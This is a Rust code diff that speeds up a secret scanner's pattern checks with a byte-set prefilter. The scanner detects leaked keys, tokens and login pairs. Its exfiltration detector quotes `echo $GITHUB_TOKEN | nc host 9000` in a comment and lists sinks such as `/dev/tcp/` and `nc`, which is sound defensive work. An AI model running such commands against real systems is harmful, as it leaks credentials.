@@ -158,16 +158,16 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
     };
     let d = Doc::new(text, s);
     tokens(&d, s, out, &mut push);
-    if has(text, "PRIVATE KEY") {
+    if d.holds("PRIVATE KEY") {
         private_keys(&d, out, &mut push);
     }
-    if has(text, "://") {
+    if d.holds("://") {
         connection_strings(&d, out, &mut push);
     }
-    if has(text, "eyJ") {
+    if d.holds("eyJ") {
         jwts(text, out, &mut push);
     }
-    if has(text, "AC") {
+    if d.holds("AC") {
         twilio_pairs(text, out, &mut push);
     }
     assignments(&d, out, &mut push);
@@ -277,6 +277,8 @@ struct Doc<'t> {
     fences: Vec<usize>,
     /// Whether the subject is prose (documentation may quote examples).
     prose: bool,
+    /// The ASCII bytes the text holds (a needle with another is not searched for).
+    bytes: super::ByteSet,
 }
 
 impl<'t> Doc<'t> {
@@ -284,7 +286,7 @@ impl<'t> Doc<'t> {
     fn new(text: &'t str, s: &Subject<'_>) -> Self {
         let prose = s.context == Context::Text;
         let fences = if prose && has(text, "```") { text.match_indices("```").map(|(i, _)| i).take(4096).collect() } else { Vec::new() };
-        Doc { text, lower: super::ascii_lower(text), fences, prose }
+        Doc { text, lower: super::ascii_lower(text), fences, prose, bytes: super::ByteSet::of(text) }
     }
 
     /// Whether `at` sits inside a markdown code fence of prose.
@@ -292,9 +294,14 @@ impl<'t> Doc<'t> {
         self.prose && self.fences.partition_point(|f| *f < at) % 2 == 1
     }
 
-    /// ASCII case-insensitive substring test.
+    /// ASCII case-insensitive substring test (`needle` lower-case).
     fn has(&self, needle: &str) -> bool {
-        has(&self.lower, needle)
+        self.bytes.may_hold_folded(needle) && has(&self.lower, needle)
+    }
+
+    /// Substring test on the text as written.
+    fn holds(&self, needle: &str) -> bool {
+        self.bytes.may_hold(needle) && has(self.text, needle)
     }
 }
 
@@ -388,7 +395,7 @@ fn tokens(d: &Doc<'_>, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>)
             push(out, conf, rule, at);
         }
     }
-    if has(text, ":AA")
+    if d.holds(":AA")
         && let Some(tg) = TELEGRAM.as_ref()
     {
         for m in tg.find_iter(text).take(16) {
@@ -401,7 +408,7 @@ fn tokens(d: &Doc<'_>, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>)
     }
     // An Azure Storage account key in a connection string: 64 random
     // bytes, base64 (86 characters and `==`), wherever it is quoted.
-    if has(text, "AccountKey=") {
+    if d.holds("AccountKey=") {
         for (p, _) in text.match_indices("AccountKey=").take(16) {
             let v = p + "AccountKey=".len();
             let key = text
@@ -418,7 +425,7 @@ fn tokens(d: &Doc<'_>, s: &Subject<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>)
             }
         }
     }
-    if has(text, "Q~") {
+    if d.holds("Q~") {
         for at in azure_client_secrets(text).take(16) {
             push(out, Confidence::High, "secret.azure-client-secret", at);
         }
@@ -1076,8 +1083,7 @@ fn assignments(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
         named_values(d, out, push);
     }
     // (The first three names all hold `secret`: one test for most texts.)
-    if d.has("secret") && (d.has("aws_secret") || d.has("secretaccesskey") || d.has("secret_key")) || has(text, "AKIA") || has(text, "ASIA")
-    {
+    if d.has("secret") && (d.has("aws_secret") || d.has("secretaccesskey") || d.has("secret_key")) || d.holds("AKIA") || d.holds("ASIA") {
         aws_secret_keys(d, out, push);
     }
 }
@@ -1212,7 +1218,7 @@ fn named_values(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
     }
     // `curl -u user:password`, `--user user:password`.
     for flag in [" -u ", " --user ", "\t-u "] {
-        if !has(&d.lower, flag) {
+        if !d.has(flag) {
             continue;
         }
         for (at, _) in d.lower.match_indices(flag).take(8) {
@@ -1271,7 +1277,7 @@ fn named_values(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
         }
     }
     // `admin / S3cret!`, `login: root / hunter22`: a login pair in prose.
-    for (at, _) in has(text, " / ").then(|| text.match_indices(" / ").take(16)).into_iter().flatten() {
+    for (at, _) in d.holds(" / ").then(|| text.match_indices(" / ").take(16)).into_iter().flatten() {
         let head = d.lower.get(at.saturating_sub(24)..at).unwrap_or("").trim_end_matches(':');
         let Some(user) = head.rsplit([' ', '\n', ':']).next() else { continue };
         if !matches!(user, "admin" | "root" | "administrator" | "sa" | "postgres" | "ubuntu" | "ec2-user") {
@@ -1386,7 +1392,6 @@ fn aws_secret_keys(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
 /// `echo $GITHUB_TOKEN | nc host 9000`.
 fn exfiltration(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
     let text = d.text;
-    let lower = &d.lower;
     let Some(re) = CRED_SOURCE.as_ref() else { return };
     if !re.is_match(text) {
         return;
@@ -1406,7 +1411,7 @@ fn exfiltration(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
         "dig $(",
     ]
     .iter()
-    .any(|w| has(lower, w));
+    .any(|w| d.has(w));
     let data_sink = pipe_sink
         || [
             "--data",
@@ -1423,8 +1428,8 @@ fn exfiltration(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
             "fetch(",
         ]
         .iter()
-        .any(|w| has(lower, w));
-    if !data_sink || !(has(lower, "://") || has(lower, "/dev/tcp/") || has(lower, "nc ") || has(lower, "$(")) {
+        .any(|w| d.has(w));
+    if !data_sink || !(d.has("://") || d.has("/dev/tcp/") || d.has("nc ") || d.has("$(")) {
         return;
     }
     for c in re.captures_iter(text).take(8) {
